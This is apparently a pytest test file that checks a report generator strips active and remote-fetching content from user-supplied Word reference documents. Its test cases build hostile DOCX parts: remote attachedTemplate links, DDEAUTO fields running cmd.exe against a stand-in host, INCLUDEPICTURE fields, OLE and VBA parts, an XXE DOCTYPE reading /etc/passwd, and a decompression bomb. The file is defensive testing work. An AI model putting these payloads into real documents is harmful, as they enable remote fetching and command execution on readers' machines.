"""A reference document of somebody's own gives looks and nothing else: what acts or fetches gets into no report."""

import io
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path

import docx
import pytest

from documents import EN
from talentpilot.errors import TemplateError
from talentpilot.report import templates
from talentpilot.report.formats.docx import render_docx
from talentpilot.report.formats.reference_document import rebuilt

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OUT = '<Relationship Id="r9" Type="{}/{}" Target="{}" TargetMode="{}"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
EVIL = "evil.invalid"


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def reference(folder: Path, changes: Mapping[str, bytes]) -> Path:
    """The built-in reference document with parts added or replaced."""
    parts = {**parts_of(templates.find("reference.en.docx", ()).read_bytes()), **changes}
    with zipfile.ZipFile(folder / "reference.en.docx", "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return folder / "reference.en.docx"


def header(inside: str) -> bytes:
    return f'<?xml version="1.0"?><w:hdr {W} xmlns:r="{REL}"><w:p>{inside}</w:p></w:hdr>'.encode()


def field(*instructions: str) -> str:
    def run(inner: str) -> str:
        return f"<w:r>{inner}</w:r>"

    texts = "".join(run(f"<w:instrText>{text}</w:instrText>") for text in instructions)
    begin, middle, end = (run(f'<w:fldChar w:fldCharType="{kind}"/>') for kind in ("begin", "separate", "end"))
    return f"{begin}{texts}{middle}{run('<w:t>shown</w:t>')}{end}"


def rels(kind: str, target: str = f"http://{EVIL}/x", mode: str = "External") -> bytes:
    return RELS.format(OUT.format(REL, kind, target, mode)).encode()


ATTACKS: dict[str, Mapping[str, bytes]] = {
    "remote template": {"word/_rels/settings.xml.rels": rels("attachedTemplate")},
    "remote template, an entity in its mode": {
        "word/_rels/settings.xml.rels": rels("attachedTemplate", mode="&#69;xternal")
    },
    "remote picture": {"word/_rels/header1.xml.rels": rels("image")},
    "remote picture, an entity in its mode": {"word/_rels/header1.xml.rels": rels("image", mode="&#x45;xternal")},
    "remote picture in UTF-16": {
        "word/_rels/header1.xml.rels": rels("image")
        .decode()
        .replace('"1.0"', '"1.0" encoding="utf-16"')
        .encode("utf-16")
    },
    "remote picture with a prefix": {
        "word/_rels/header1.xml.rels": (
            '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<p:Relationship Id="r9" Type="{REL}/image" Target="http://{EVIL}/x" TargetMode="External"/>'
            "</p:Relationships>"
        ).encode()
    },
    "picture on a share": {"word/_rels/header1.xml.rels": rels("image", f"file://{EVIL}/x")},
    "link with a script": {"word/_rels/header1.xml.rels": rels("hyperlink", f"javascript:{EVIL}")},
    "link to a file": {"word/_rels/header1.xml.rels": rels("hyperlink", f"file://{EVIL}/x")},
    "object": {"word/_rels/header1.xml.rels": rels("oleObject")},
    "frame": {"word/_rels/webSettings.xml.rels": rels("frame")},
    "chunk": {"word/_rels/document.xml.rels": rels("aFChunk", f"{EVIL}.html", "Internal"), f"word/{EVIL}.html": b"x"},
    "DDE": {
        "word/header1.xml": header(
            f'<w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe {EVIL}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        )
    },
    "DDE in runs": {"word/header1.xml": header(field(" DDE", f'AUTO c:\\\\cmd.exe "{EVIL}"'))},
    "picture by a field": {
        "word/footer1.xml": header(field(f'INCLUDEPICTURE "http://{EVIL}/x"')).replace(b":hdr", b":ftr")
    },
    "text by a field": {"word/header1.xml": header(field(f'includetext "http://{EVIL}/x"'))},
    "a field in a field": {
        "word/header1.xml": header(
            field(
                f" PAGE {field(f'QUOTE {EVIL}')}".replace("<w:r>", "</w:instrText></w:r><w:r>", 1)
                + "<w:r><w:instrText>"
            )
        )
    },
    "a link by a field": {"word/header1.xml": header(field(f'HYPERLINK "http://{EVIL}"'))},
    "VML": {
        "word/header1.xml": header(
            f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://{EVIL}/x"/></v:shape></w:pict></w:r>'
        )
    },
    "alternatives": {
        "word/header1.xml": header(
            '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            f'<mc:Fallback><x:y xmlns:x="urn:x" src="http://{EVIL}"/></mc:Fallback></mc:AlternateContent></w:r>'
        )
    },
    "mail merge": {
        "word/settings.xml": (
            f'<w:settings {W}><w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge></w:settings>'
        ).encode()
    },
    "comment": {"word/header1.xml": header(f"<!-- {EVIL} --><w:r><w:t>x</w:t></w:r>")},
    "programs": {"word/vbaProject.bin": EVIL.encode(), "word/activeX/activeX1.xml": EVIL.encode()},
    "other files": {
        "word/embeddings/x.exe": EVIL.encode(),
        "customXml/item1.xml": EVIL.encode(),
        "x.txt": EVIL.encode(),
    },
}


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_acts_or_fetches_is_left(tmp_path: Path, name: str) -> None:
    file = reference(tmp_path, ATTACKS[name])
    for made in (rebuilt(file), render_docx("## A\n\nText.\n", {}, EN, (tmp_path,))):
        for part, data in parts_of(made).items():
            assert EVIL.encode() not in data, part
            assert EVIL not in part
            assert EVIL.encode("utf-16-le") not in data, part
            assert b"attachedTemplate" not in data, part
            assert not re.search(rb"DDE|INCLUDE|QUOTE", data) or part.endswith(".png"), part
            for link in re.findall(rb"<\w*:?Relationship [^>]*>", data):
                assert b"External" not in link or b"/hyperlink" in link
    assert docx.Document(io.BytesIO(made)).paragraphs


def test_fields_that_count_pages_stay_and_others_become_their_text(tmp_path: Path) -> None:
    file = reference(
        tmp_path, {"word/header1.xml": header(field(" PAGE ") + field(" DATE ") + field("STYLEREF Title"))}
    )
    text = parts_of(rebuilt(file))["word/header1.xml"].decode()
    assert re.findall("<w:instrText>([^<]*)<", text) == [" PAGE ", "STYLEREF Title"]
    assert text.count("<w:t>shown</w:t>") == 3


def test_a_picture_and_a_link_to_the_web_in_a_head_stay(tmp_path: Path) -> None:
    links = RELS.format(
        OUT.format(REL, "image", "media/logo.png", "Internal")
        + OUT.format(REL, "hyperlink", "https://a.gov.cn/", "External")
    )
    file = reference(tmp_path, {"word/_rels/header1.xml.rels": links.encode(), "word/media/logo.png": b"\x89PNG"})
    parts = parts_of(rebuilt(file))
    assert parts["word/media/logo.png"] == b"\x89PNG"
    assert parts["word/_rels/header1.xml.rels"].count(b"<Relationship ") == 2


@pytest.mark.parametrize(
    "part",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><w:hdr/>',
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
        b"<not closed",
        b"\xff\xfe\x00",
        b"",
    ],
)
def test_a_damaged_part_is_told(tmp_path: Path, part: bytes) -> None:
    reference(tmp_path, {"word/header1.xml": part})
    with pytest.raises(TemplateError, match=r"reference\.en\.docx is not a Word document"):
        render_docx("## A\n", {}, EN, (tmp_path,))


def test_a_document_that_unpacks_to_gigabytes_is_not_opened(tmp_path: Path) -> None:
    reference(tmp_path, {"word/header1.xml": b"<x>" + b" " * 60_000_000})
    with pytest.raises(TemplateError, match="unpacks to more"):
        render_docx("## A\n", {}, EN, (tmp_path,))


def test_the_built_in_documents_lose_nothing(tmp_path: Path) -> None:
    """Rebuilt, they make the same report."""
    for name in ("reference.en.docx", "reference.zh.docx"):
        (tmp_path / name).write_bytes(templates.find(name, ()).read_bytes())
    own = parts_of(render_docx("## A\n\nText.\n", {}, EN, (tmp_path,)))
    built_in = parts_of(render_docx("## A\n\nText.\n", {}, EN, ()))
    assert own.keys() == built_in.keys()
    assert len(own["word/styles.xml"]) > 0.9 * len(built_in["word/styles.xml"])
